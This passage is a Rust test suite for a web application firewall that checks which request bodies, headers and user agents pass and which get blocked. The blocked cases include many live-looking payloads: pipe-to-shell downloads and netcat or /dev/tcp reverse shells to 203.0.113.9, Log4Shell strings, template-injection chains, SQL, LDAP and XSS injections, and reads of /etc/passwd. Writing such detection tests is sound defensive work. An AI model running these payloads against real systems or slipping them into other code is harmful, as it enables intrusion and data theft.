fn shell_scripts_and_pipeline_queries_are_programs_by_design() {
    let waf = waf_with("{}");
    for body in [
        // A shebang, a `while read` loop, `$(wc -l < f)`, `[[ … || … == … ]]`.
        r##"{"content": "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  [[ -z \"$key\" || \"$key\" == \\#* ]] && continue\n  export \"$key\"=\"$value\"\ndone < .env\necho \"loaded $(wc -l < .env) vars\""}"##,
        r##"{"query": "level=error | stats count() by host | sort -count"}"##,
        r##"{"query": "requests | where code >= 500 | summarize count() by bin(ts, 5m) | sort by count_ desc"}"##,
        r##"{"run": "docker build -t registry.example.com/api:${GIT_SHA} ."}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r##"{"content": "#!/bin/sh\ncd /tmp\ncurl -s http://203.0.113.9/x | sh"}"##,
        r##"{"content": "while true; do nc 203.0.113.9 4444 -e /bin/sh; done"}"##,
        r##"{"query": "level=error | stats count() by host; cat /etc/passwd"}"##,
        r##"{"query": "x | sort -count && rm -rf /"}"##,
        r##"{"rce": "alias a=c${KK}url&a google.com"}"##,
        r##"{"q": "${cmd}"}"##,
        r##"{"q": "x' || 'a'='a"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
}

#[test]
fn ruby_interpolation_signatures_urls_and_named_sinks() {
    let waf = waf_with("{}");
    for body in [
        r##"{"content": "User.where(active: true).find_each do |u|\n  puts \"#{u.email} -> #{u.plan}\"\nend"}"##,
        r##"{"signature": "-- \nKim Park | Pulse\nhttps://pulse-app.com"}"##,
        r##"{"q": "how to use window.location.href"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r##"{"q": "#{File.read('/etc/passwd')}"}"##,
        r##"{"q": "#{process.mainModule.require('child_process')}"}"##,
        r##"{"q": "x\r\nSet-Cookie: a=b"}"##,
        r##"{"q": "window.location"}"##,
        r##"{"q": "then window.location.href='//203.0.113.9/'+document.cookie"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
    // A structured syntax suffix is JSON (RFC 6839); a type that is not allowed stays refused.
    let report = r##"[{"type": "csp-violation", "url": "https://a.example/", "body": {"sample": "color: red"}}]"##;
    assert!(!post("/reports", "application/reports+json", report, &waf).blocked);
    assert!(post("/reports", "application/x-shockwave-flash", report, &waf).blocked);
}

#[test]
fn attacks_dressed_as_prose_keep_their_weight() {
    let waf = waf_with("{}");
    for body in [
        r##"{"comment": "Hi team, I noticed something odd on the dashboard today when I pasted ; cat /etc/passwd into the notes field and saved it"}"##,
        r##"{"comment": "Thanks for the reply, here is the value we are seeing in the report: | bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 every time"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(blocked_category(&o, Category::Rce), "{body}: {o:?}");
    }
    // Prose that names the file without running anything is still prose.
    let o = json_post(
        &waf,
        r##"{"comment": "The user list lives in /etc/passwd on most Linux systems, and the hashes are kept in a separate file that only root can read."}"##,
    );
    assert!(!o.blocked, "{o:?}");
}

#[test]
fn holdout4_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // Editor HTML: alignment, font sizes, table borders, colour functions in a style.
        r##"{"content": "<p style=\"text-align: center;\"><span style=\"color: #e03e2d; font-size: 18pt;\">Closed</span></p><table border=\"1\" style=\"border-collapse: collapse; width: 100%;\"><tr><td>Mon</td></tr></table>"}"##,
        r##"{"html": "<div dir=\"ltr\">Hi,<br><blockquote style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">Wed?</blockquote></div>"}"##,
        // A `--` held in a string, a file pattern, a regular expression's class.
        r##"{"command": "[\"npm\", \"run\", \"dev\", \"--\", \"--host\", \"0.0.0.0\"]"}"##,
        r##"{"glob": "[*.{js,ts,json}]"}"##,
        r##"{"regex": "(?i)authorization:\\s*bearer\\s+[a-z0-9._~+/-]+=*"}"##,
        // ICU plural with `#`; a Java log line naming an exception.
        r##"{"msg": "{count, plural, one {# article} other {# articles}}"}"##,
        r##"{"msg": "<-- HTTP FAILED: java.net.SocketTimeoutException: timeout"}"##,
        r##"{"trace": "java.lang.IllegalStateException: not attached\n\tat androidx.fragment.app.Fragment.requireContext(Fragment.java:972)"}"##,
        // An address in angle brackets; an arrow in a note; LaTeX; a PowerShell script that sets
        // variables first.
        r##"{"html": "<div dir=\"ltr\">On Mon Tom &lt;tom@example.net&gt; wrote:<br></div>"}"##,
        r##"{"note": "Customer asked: \"can you ship to P.O. Box 1234?\" -> yes, via USPS only"}"##,
        r##"{"source": "The posterior is $p(\\theta \\mid x)$ for $n > 30$."}"##,
        r##"{"body": "Hi, the installer stops with 'Access is denied'. I also checked %APPDATA%\\SoftCo\\logs\\install.log and it says it failed to create the cache folder."}"##,
        r##"{"content": "$src = 'C:\\Users\\jdoe'\n$dst = \"D:\\Backups\\$(Get-Date -Format yyyy-MM-dd)\"\nNew-Item -ItemType Directory -Path $dst -Force | Out-Null\n"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r##"{"content": "<p style=\"background: url(javascript:alert(1))\">x</p>"}"##,
        r##"{"content": "<p style=\"color: rgb(1,2,3); position: fixed; top: 0\">x</p>"}"##,
        r##"{"content": "<table border=1 onmouseover=alert(1)><tr><td>x</td></tr></table>"}"##,
        r##"{"q": "admin\"--"}"##,
        r##"{"q": "x' --"}"##,
        r##"{"q": ";{cat,/etc/passwd}"}"##,
        r##"{"q": "{cat,/etc/passwd}"}"##,
        r##"{"q": "x; cat ~+/etc/passwd"}"##,
        r##"{"q": "{# comment #}"}"##,
        r##"{"q": "java.lang.Runtime.getRuntime().exec('id')"}"##,
        r##"{"q": "java.io.IOException ${jndi:ldap://203.0.113.9/a}"}"##,
        r##"{"q": "java.net.URLClassLoader"}"##,
        r##"{"q": "<a href=x onclick=alert(1)>tom@example.net</a>"}"##,
        r##"{"q": "x<tom@example.net><img src=x onerror=alert(1)>"}"##,
        r##"{"q": "1' ->'a'"}"##,
        r##"{"q": "x\"->>'key' union select 1"}"##,
        r##"{"q": "$_GET[a]($_GET[b])"}"##,
        r##"{"q": "$f('id')"}"##,
        r##"{"content": "$x = 1\n$y = $(curl http://203.0.113.9/a.sh | sh)\n"}"##,
        r##"{"content": "a=1\ncat /etc/passwd\n"}"##,
        r##"{"q": "x & %COMSPEC% /c whoami"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
    // The TOML content type is allowed and read as text; Python's HTTP client is not a scanner,
    // the scanner still is.
    assert!(!post("/api/pyproject", "application/toml", "[tool.poetry]\nname = \"invoicer\"\n", &waf).blocked);
    // Registered media types of documents read as text: EDI interchanges (RFC 1767), the OpenAPI
    // type and RFC 9512's `+yaml` suffix. Their bodies are still inspected; unknown types still score.
    for ct in [
        "application/EDI-X12",
        "application/edifact",
        "application/vnd.oai.openapi;version=3.1",
        "application/vnd.aai.asyncapi+yaml;version=3.0.0",
    ] {
        assert!(
            !post("/api/edi", ct, "ISA*00*          *00*          *ZZ*SENDER~GS*PO*S*R~ST*850*0001~", &waf).blocked,
            "{ct}"
        );
        let o =
            post("/api/edi", ct, "openapi: 3.1.0\ninfo:\n  title: x\n  description: <script>alert(1)</script>\n", &waf);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4100), "{ct}: {o:?}");
    }
    for ct in ["application/x-edi-x12", "application/yaml+x", "x-application/hl7-v2+er7"] {
        let o = post("/api/edi", ct, "MSH|^~\\&|LAB|", &waf);
        assert!(o.matches.iter().any(|m| m.rule_id == 1010), "{ct}: {o:?}");
    }
    let ua = |u: &str| waf.outcome(&waf.inspect_head(&get("/products/1", &[("user-agent", u)]))).blocked;
    assert!(!ua("python-httpx/0.27.0"));
    assert!(!ua("minizinc-python/0.9.0 httpx/0.27.0"));
    assert!(ua("httpx/1.6.0"));
    assert!(ua("Mozilla/5.0 httpx"));
    assert!(ua("httpx"));
    assert!(ua("projectdiscovery httpx v1.6"));
}

#[test]
fn java_log_shape() {
    assert!(context::java_log(b"<-- http failed: java.net.sockettimeoutexception: timeout"));
    assert!(!context::java_log(b"java.lang.runtime.getruntime().exec('id')"));
}

#[test]
fn holdout5_and_holdout6_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // An SQL script (a migration, a rollback plan): its `;` end statements at line ends.
        r##"{"text": "BEGIN;\nALTER TABLE invoices DROP COLUMN IF EXISTS tax_region;\nDELETE FROM schema_migrations WHERE version = '20240611093000';\nCOMMIT;"}"##,
        r##"{"up": "ALTER TABLE customers ADD COLUMN street text, ADD COLUMN city text;\nUPDATE customers SET street = split_part(address, ',', 1);\nALTER TABLE customers DROP COLUMN address;"}"##,
        // A systemd unit (a configuration of `key=value` lines naming programs and paths).
        r##"{"unit": "[Unit]\nDescription=Nightly backup\n\n[Service]\nType=oneshot\nExecStart=/usr/local/bin/restic backup /srv/data --tag nightly\n"}"##,
        // A shell `for` loop with a parameter expansion.
        r##"{"code": "for f in *.jpeg; do mv -- \"$f\" \"${f%.jpeg}.jpg\"; done"}"##,
        // A Dockerfile's RUN line after its FROM line.
        r##"{"dockerfile": "FROM node:20-slim\nWORKDIR /app\nCOPY . .\nRUN npm ci && rm -rf /tmp/npm-cache\n"}"##,
        // A doctype quoted in an error message.
        r##"{"message": "Uncaught (in promise) SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON"}"##,
        // A Go import block; a company named like a sample database; a Go template's pipe.
        r##"{"content": "package main\n\nimport (\n\t\"context\"\n\t\"net/http\"\n)\n\nfunc main() {\n\t_ = context.Background()\n}\n"}"##,
        r##"{"name": "NDA - Acme & Northwind.pdf"}"##,
        r##"{"summary": "{{ $labels.service }} error ratio is {{ $value | humanizePercentage }}"}"##,
        // Multi-line text that is not a header block: ping output, a vCard, an access-log sample.
        r##"{"text": "Reply from 8.8.8.8: bytes=32 time=14ms TTL=117\nRequest timed out.\nPackets: Sent = 10, Received = 8, Lost = 2 (20% loss)"}"##,
        r##"{"card": "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dr. Jane Doe\r\nTEL;TYPE=work,voice:+1-555-0100\r\nEND:VCARD\r\n"}"##,
        r##"{"subject": "10.0.0.5 - - [12/Jun/2024:10:01:22 +0000] \"GET /index.html HTTP/1.1\" 200 1043\n10.0.0.9 - - [12/Jun/2024:10:01:23 +0000] \"POST /api/login HTTP/1.1\" 401 52"}"##,
        // A mail search with wildcards in parentheses.
        r##"{"match": "from:(*@news.* OR *@mailer.*) -is:starred"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // A consent cookie with a parenthesised time zone before `&version=`.
    let r = get(
        "/dashboard",
        &[(
            "cookie",
            "OptanonConsent=isGpcEnabled=0&datestamp=Wed+Jun+12+2024+(Central+European+Summer+Time)&version=202403.1.0",
        )],
    );
    assert!(!waf.outcome(&waf.inspect_head(&r)).blocked);
    for body in [
        // Stacked statements after data, or on one line.
        r##"{"q": "1;\ndrop table users"}"##,
        r##"{"q": "x'; update users set role='admin'--"}"##,
        r##"{"q": "drop table users; drop table orders"}"##,
        // A configuration whose value chains or substitutes a command, or names an account file.
        r##"{"c": "[x]\nhost=127.0.0.1;id\nport=22\n"}"##,
        r##"{"c": "a=1\nb=2\nc=$(curl http://203.0.113.9/a.sh)\n"}"##,
        r##"{"c": "a=1\nb=2\nc=/etc/passwd\n"}"##,
        r##"{"c": "a=1\nb=2\ncmd=nc -e /bin/sh 203.0.113.9 4444\n"}"##,
        // Loops and Dockerfiles that reach the system.
        r##"{"code": "for i in 1; do cat /etc/passwd; done"}"##,
        r##"{"dockerfile": "FROM alpine\nRUN wget -qO- http://203.0.113.9/a.sh | sh\n"}"##,
        // A doctype before markup that acts.
        r##"{"q": "<!doctype html><img src=x onerror=alert(1)>"}"##,
        r##"{"q": "<!DOCTYPE html><script>alert(1)</script>"}"##,
        // A dynamic import, the sample database in a query, template code. (The database's name
        // alone is a name since the eleventh round: a company, a signer's role.)
        r##"{"q": "import('//203.0.113.9/x.js')"}"##,
        r##"{"q": "1 union select name from northwind..sysobjects"}"##,
        r##"{"q": "{{ ''|attr('__class__') }}"}"##,
        r##"{"q": "{{7*7}}"}"##,
        // Header injection and smuggled requests.
        r##"{"q": "x\r\nContent-Length: 0"}"##,
        r##"{"q": "x\r\nSet-Cookie: a=b\r\nLocation: http://203.0.113.9/"}"##,
        r##"{"q": "aaa\nGET / HTTP/1.1"}"##,
        r##"{"q": "x\r\n\r\nHTTP/1.1 200 OK"}"##,
        // LDAP filters.
        r##"{"q": "*)(uid=*))(|(uid=*"}"##,
        r##"{"q": "admin*)"}"##,
        r##"{"q": "x)(|(password=*)"}"##,
        r##"{"q": "*)!(sn=*"}"##,
        r##"{"q": "x*) (cn=*"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
}

#[test]
fn configuration_and_sql_script_shapes() {
    assert!(context::is_config(b"[unit]\ndescription=x\nexecstart=/usr/bin/true\n"));
    assert!(context::is_config(b"a=1\nb = two\n# c\n"));
    assert!(!context::is_config(b"a=1\nb=2\nc=x;id\n"));
    assert!(!context::is_config(b"a=1\nhello world\nb=2\n"));
    assert!(!context::sql_breakout(b"begin;\nupdate t set a = 1;\ncommit;"));
    assert!(context::sql_breakout(b"1;\nupdate t set a = 1"));
    assert!(context::sql_breakout(b"update t set a = 1; drop table t"));
}

#[test]
fn holdout7_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // Placeholders set in text (i18n, templates, CI variables): names, not code.
        r##"{"footer": "© ${year} ${company}. All rights reserved."}"##,
        r##"{"msg": "Your invoice of ${amount} is due on ${date, date, long}."}"##,
        r##"{"run": "helm upgrade --install web ./chart --set image.tag=${GIT_SHA}"}"##,
        // Enumerations in a citation are not a variable call.
        r##"{"cite": "26 U.S.C. § 501(c)(3)"}"##,
        // An anonymous function in code whose body is not closed by `};`.
        r##"{"html": "<pre><code>add_action('init', function () {\n    register_post_type('book');\n});</code></pre>"}"##,
        // A class name ending a sentence.
        r##"{"body": "It is only used at build time, not at runtime. Upgrade anyway."}"##,
        // A script scheme followed by words only.
        r##"{"q": "javascript: the definitive guide"}"##,
        // A user's folder that starts a path.
        r##"{"hint": "Saved to %USERPROFILE%\\Downloads\\exports"}"##,
        // A program named by its path, with options; a script discarding output to /dev/null.
        r##"{"command": "/opt/tools/bin/prune --keep 7 --dir /srv/app/tmp"}"##,
        r##"{"answer": "find . -name '*.log' -mtime +7 -delete 2>/dev/null"}"##,
        // Variables of a PowerShell snippet named like MongoDB operators.
        r##"{"code": "Get-ChildItem -Path C:\\Logs |\n  ForEach-Object {\n    $size = $_.Length / 1MB\n    $type = $_.Extension\n  }\n"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for body in [
        r##"{"q": "${system('id')}"}"##,
        r##"{"q": "${cmd}"}"##,
        r##"{"q": "${SHELL} -c \"id\""}"##,
        r##"{"q": "a=c${x}url http://203.0.113.9"}"##,
        r##"{"q": "x ${f}(1)"}"##,
        r##"{"q": "[].sort.call` ${alert} 1`"}"##,
        r##"{"q": "define('x', 'sys' . 'tem');(x)('uname');"}"##,
        r##"{"q": "(system)(id)"}"##,
        r##"{"q": "Title. After something () { :;}; /bin/bash -c id"}"##,
        r##"{"q": "() { _; } ; id"}"##,
        r##"{"q": "java.lang.Runtime.getRuntime().exec('id')"}"##,
        r##"{"q": "x Runtime. exec('id')"}"##,
        r##"{"q": "javascript:alert(1)"}"##,
        r##"{"q": "javascript: alert(document.cookie)"}"##,
        r##"{"q": "%COMSPEC% /c whoami"}"##,
        r##"{"q": "%APPDATA%"}"##,
        r##"{"q": "dd if=/dev/zero of=/dev/sda bs=1M"}"##,
        r##"{"q": "/usr/bin/curl -s http://203.0.113.9/a.sh | sh"}"##,
        r##"{"user": {"$ne": null}}"##,
        r##"{"filter": "{\n  \"username\": {\"$ne\": null},\n  \"password\": {\"$ne\": null}\n}"}"##,
        r##"{"q": "$where"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
    assert!(context::script_uri_words(b"javascript: the good parts"));
    assert!(!context::script_uri_words(b"v\nb\ts\nc\nr\ti\tp\nt:: a b"));
    assert!(!context::script_uri_words(b"javascript:alert document cookie"));
}

#[test]
fn holdout8_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // A hexadecimal token after `0e` (an entity tag, a hash) is not scientific notation.
        r##"{"etag": "W/\"0eab12cd34ef5678\"", "sha": "0ec4d1f2a9"}"##,
        // A diffstat's run of pluses is not JSFuck.
        r##"{"out": " src/lib.rs | 12 ++++++++++++----\n 1 file changed"}"##,
        // A field of a document named like a session id.
        r##"{"Statement": [{"Sid": "AllowRead", "Effect": "Allow"}], "meta": {"sessionid": "n/a"}}"##,
        // Templates that read their own data: names, member chains, `for` and `if` over names.
        r##"{"tpl": "Hi {{ customer.first_name }}, order {{order.number}} ships {% if order.express %}tomorrow{% endif %}."}"##,
        r##"{"tpl": "{% for line in invoice.lines %}- {{ line.title }} x {{ line.qty }}\n{% endfor %}"}"##,
        r##"{"note": "Repro: run {{seed.sh --from=2023-11-01 --to=2023-12-01}} first"}"##,
        r##"{"sql": "select id from users where created_at > {{ dateRange.start }} limit 10"}"##,
        // Self-closed inline placeholders; a whole error page quoted as a value.
        r##"{"seg": "Drag <x id=\"7\"/> here, then press <x id=\"8\"/> to save."}"##,
        r##"{"page": "<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>It is gone.</p></body></html>"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    let rule = |body: &str, id: u32| {
        let o = json_post(&waf, body);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == id), "{body}: {o:?}");
    };
    for q in ["0e1union select 1", "1 or 0eunion", "0e1and 1", "0e(1)", "0e1ddiv 1"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 4218);
    }
    for q in ["[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "(+[![]]+[+[]])+(![]+[])[+!+[]]", "+++[][]()()!!!!+[]"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 4109);
    }
    // A JSON body's keys fix no session: no framework reads a session id from a JSON document,
    // and a cross-site page cannot make a browser send one (a JSON content type needs CORS).
    for body in [r#"{"jsessionid": "abc"}"#, r#"{"connect.sid": "s:abc"}"#, r#"{"PHPSESSID": "x", "a": {"b": 1}}"#] {
        let o = json_post(&waf, body);
        assert!(!o.blocked && o.matches.iter().all(|m| m.rule_id != 4350), "{body}: {o:?}");
    }
    // Query and form arguments, which a link or a cross-site form can carry, still count.
    assert!(outcome(&waf, "/login?sid=abc123").blocked);
    for body in ["jsessionid=abc", "PHPSESSID=x&a=1", "user=a&connect.sid=s%3Aabc"] {
        let o = post("/login", "application/x-www-form-urlencoded", body, &waf);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4350), "{body}: {o:?}");
    }
    for q in [
        "{{ request.application.__globals__ }}",
        "{{ config.items() }}",
        "{{7*7}}",
        "{{ 7 - 2 }}",
        "{{ self }}",
        "{{ range.__init__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "{% if true %}49{% endif %}",
        "{% if 7*7 == 49 %}ok{% endif %}",
        "{% if x.read() %}1{% endif %}",
        "{% import os %}",
        "{{ ''|attr('x') }}",
    ] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3600);
    }
    for body in [
        r#"{"q": "<x id=\"1\" onclick=\"alert(1)\"/>"}"#,
        r#"{"q": "<script/>alert(1)</script>"}"#,
        r#"{"q": "<style/>body{display:none}"}"#,
        r#"{"q": "<body onload=alert(1)>"}"#,
        r#"{"q": "<html><body><script>alert(1)</script></body></html>"}"#,
        r#"{"q": "<title></title><svg onload=alert(1)>"}"#,
        r#"{"q": "<meta id=\"a\"/><meta http-equiv=\"refresh\" content=\"0;url=//203.0.113.9\">"}"#,
        r#"{"q": "<body background=\"javascript:alert(1)\">"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(blocked_category(&o, Category::Xss), "{body}: {o:?}");
    }
}

#[test]
fn holdout8_second_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // A program's `execute(` method; a JavaScript template literal formatting a string.
        r##"{"ctx": "    result = cursor.execute(query, params)"}"##,
        r##"{"code": "const label = `item-${n}`;"}"##,
        // A Markdown link one level up; an object key under a relative `var/log/`.
        r##"{"body": "See the [setup guide](../setup.md) before you start."}"##,
        r##"{"Key": "var/log/nginx/2024/06/01/access.log.gz"}"##,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for (ct, body) in [
        ("text/x-gettext-translation", "msgid \"Save\"\nmsgstr \"Guardar\"\n"),
        ("text/html; charset=utf-8", "<p>Hello <b>there</b></p>"),
    ] {
        let o = post("/v1/i18n", ct, body, &waf);
        assert!(!o.blocked, "{ct}: {o:?}");
    }
    let rule = |body: &str, id: u32| {
        let o = json_post(&waf, body);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == id), "{body}: {o:?}");
    };
    for q in ["exec(char(0x73))", "1;execute('select 1')", "x' ; exec master..xp_cmdshell 'dir'--", "1; execute (@q)"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 4210);
    }
    for q in ["[].sort.call`${alert}1`", "${f}(1)", "c${x}url", "`${alert}`", "a-${system('id')}"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3305);
    }
    for q in [
        "[x](../../../etc/passwd)",
        "(../../secret.txt)",
        "../config.php",
        "..%2f..%2fetc%2fhosts",
        r"(..\\..\\boot.ini)",
    ] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3000);
    }
    for q in
        ["/var/log/apache2/access.log", "../../var/log/auth.log", "/var/run/secrets/kubernetes.io/serviceaccount/token"]
    {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3001);
    }
    let o = post("/v1/i18n", "text/html", "<p>x</p><script>alert(1)</script>", &waf);
    assert!(blocked_category(&o, Category::Xss), "{o:?}");
    let o = post("/v1/i18n", "application/foo", "a=1", &waf);
    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1010), "{o:?}");
    // Constructors and `exec…` calls reached from a template expression.
    rule(
        r#"{"q": "{{constructor.constructor('return this')().process.mainModule.require('child_process').execSync('id')}}"}"#,
        3600,
    );
}

fn with_user_agent(target: &str, ua: &str) -> Request {
    Request::from_headers(vec![
        (":method".into(), b"GET".to_vec()),
        (":path".into(), target.as_bytes().to_vec()),
        (":authority".into(), b"api.example.com".to_vec()),
        ("accept".into(), b"application/json".to_vec()),
        ("user-agent".into(), ua.as_bytes().to_vec()),
    ])
}

#[test]
fn holdout9_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // SQL's `IF NOT EXISTS` is not batch's `if not exist`.
        r#"{"ddl": "DROP VIEW IF EXISTS v_daily_totals"}"#,
        // A template filter given a number; a host function whose name ends in `attr`.
        r#"{"t": "{{ price | round(2) }} EUR, {{ humidity | float(0) }} %"}"#,
        r#"{"t": "Set to {{ state_attr('climate.office', 'temperature') }} degrees"}"#,
        // A disclosure widget folding a list away.
        r#"{"notes": "<details><summary>Changes</summary><ul><li>Faster export</li></ul></details>"}"#,
        // `!!` between words: a wiki table's header cells, an exclamation.
        r#"{"wikitext": "! Region !! Sales\n| North || 12"}"#,
        r#"{"msg": "fixed it !! thank you"}"#,
        // Kubernetes and CI references to upper-case variables.
        r#"{"args": ["--dsn", "$(PRIMARY_DB_DSN)"], "cmd": "deploy --tag $(IMAGE_TAG) --ns $(K8S_NS)"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    // Array parameters named like PHP functions; a JSF form's own field names.
    for t in ["/v1/courses?include[]=teachers&file[0]=a.pdf", "/v1/x?header[title]=Q3"] {
        let o = outcome(&waf, t);
        assert!(!o.blocked, "{t}: {o:?}");
    }
    let o = post(
        "/faces/edit.xhtml",
        "application/x-www-form-urlencoded",
        "javax.faces.source=f%3Asave&f%3Aname=Ann",
        &waf,
    );
    assert!(!o.blocked, "{o:?}");
    // A serialised PHP array of scalars in a framework's session cookie.
    let r = get("/home", &[("cookie", "app_session=a%3A2%3A%7Bs%3A4%3A%22user%22%3Bs%3A3%3A%22bob%22%3B%7D")]);
    let o = waf.outcome(&waf.inspect_head(&r));
    assert!(!o.blocked, "{o:?}");
    // User agents naming their runtime and HTTP library in product tokens.
    for ua in [
        "Composer/2.7.0 (Darwin; 23.4.0; PHP 8.2.1; cURL 8.4.0; CI)",
        "mailer-sdk/2.0.1;python",
        "tool/1.2 (Linux; ruby/3.3.0)",
    ] {
        let o = waf.outcome(&waf.inspect_head(&with_user_agent("/v1/items", ua)));
        assert!(!o.blocked, "{ua}: {o:?}");
    }

    // The attacks next to them.
    let rule = |body: &str, id: u32| {
        let o = json_post(&waf, body);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == id), "{body}: {o:?}");
    };
    for q in [
        r"if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
        r"x & if not exist C:\\t (mkdir C:\\t)",
        "a | if errorlevel 1 goto end",
        "if defined ProgramFiles echo 1",
    ] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3206);
    }
    for q in [
        "{{ ''|attr('__class__') }}",
        "{{ lipsum | attr ( 'x' ) }}",
        "{{ x|attr(\\\"y\\\") }}",
        "{{ 7*7 }}",
        "{{ x|round(7*7) }}",
        "{{ config.items() }}",
        "{{ request|join('') }}",
    ] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3600);
    }
    for q in [
        "<details open ontoggle=alert(1)>",
        "<details/open/ontoggle=confirm(1)>",
        "<details><summary>x</summary><script>alert(1)</script></details>",
    ] {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(blocked_category(&o, Category::Xss), "{q}: {o:?}");
    }
    for q in
        ["$(id)", "$(WHOAMI)", "x $(curl -s http://203.0.113.9/a)", "$(MY_VAR) `id`", "$(A_B) $(uname -a)", "$(ID)"]
    {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3201);
    }
    for q in ["!!", "!-2", " !1", "x;!!", "a && !-1", "x | !ls"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3209);
    }
    for t in ["/x?q=include[$f]", "/x?q=readfile['/etc/hosts']", "/x?q=system[%20'id'%20]", "/x?q=system('id')"] {
        let o = outcome(&waf, t);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3301), "{t}: {o:?}");
    }
    for q in ["javax.naming.InitialContext", "javax.script.ScriptEngineManager", "javax.el.ELProcessor"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 4401);
    }
    for q in [
        r#"O:8:\"stdClass\":0:{}"#,
        r#"a:1:{i:0;O:4:\"Evil\":1:{s:1:\"x\";s:2:\"id\";}}"#,
        r#"O:+4:\"Evil\":0:{}"#,
        r#"C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}"#,
    ] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3303);
    }
    for ua in [
        "Mozilla/5.0;id",
        "x/1.0;sleep 5",
        "x/1.0; cat /etc/passwd",
        "a/1.0 (Linux; wget http://203.0.113.9/x)",
        "a/1.0;php -r phpinfo();",
        "curl/8.0;nc 203.0.113.9 4444",
    ] {
        let o = waf.outcome(&waf.inspect_head(&with_user_agent("/v1/items", ua)));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3200), "{ua}: {o:?}");
    }
}

#[test]
fn holdout10_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // Commands in Markdown fenced code blocks of a post, with text around them; the fence's
        // last backtick does not substitute the command on the next line.
        r#"{"body": "Repro with curl:\n\n```\ncurl -s -X POST https://api.example.com/v2/exports \\\n  -d '{}' | jq .status\n```\n\nreturns `queued` forever."}"#,
        r#"{"body": "This breaks on spaces:\n\n```bash\nfor f in $(ls *.txt); do\n  wc -l $f\ndone\n```\n\nHow do I do this properly?"}"#,
        r#"{"body": "How do I export that?\n\n~~~powershell\nGet-ChildItem -Path C:\\Reports -Recurse | Select-Object FullName\n~~~"}"#,
        // Markdown emphasis around a placeholder of a chat template.
        r#"{"template": "{{actor}} moved *{{task.title}}* to {{task.status}}"}"#,
        // A link to a script with a query of name=value pairs.
        r#"{"long_url": "http://legacy.example.org/cgi-bin/view.pl?id=1042&lang=en"}"#,
        // A PHP function name ending a hyphenated word, before words in parentheses.
        r#"{"message": "Please use your company e-mail (no gmail/yahoo)"}"#,
        // A repository's committed template of its environment file.
        r#"{"files": {".env.example": {"content": "LOG_LEVEL=debug"}}}"#,
        // An e-mail template's head; a tag named inside a code element of rich text.
        r#"{"html": "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><title>Shipped</title></head><body><p>Hi</p></body></html>"}"#,
        r#"{"body": "<p>Let&rsquo;s keep the <code>&lt;select&gt;</code> native on mobile.</p>"}"#,
        // An inch mark before a dash in a review.
        r#"{"body": "Listing says 13-14\" -- it's too tight for a 13\" MBP (2020). Returned it, sadly."}"#,
    ] {
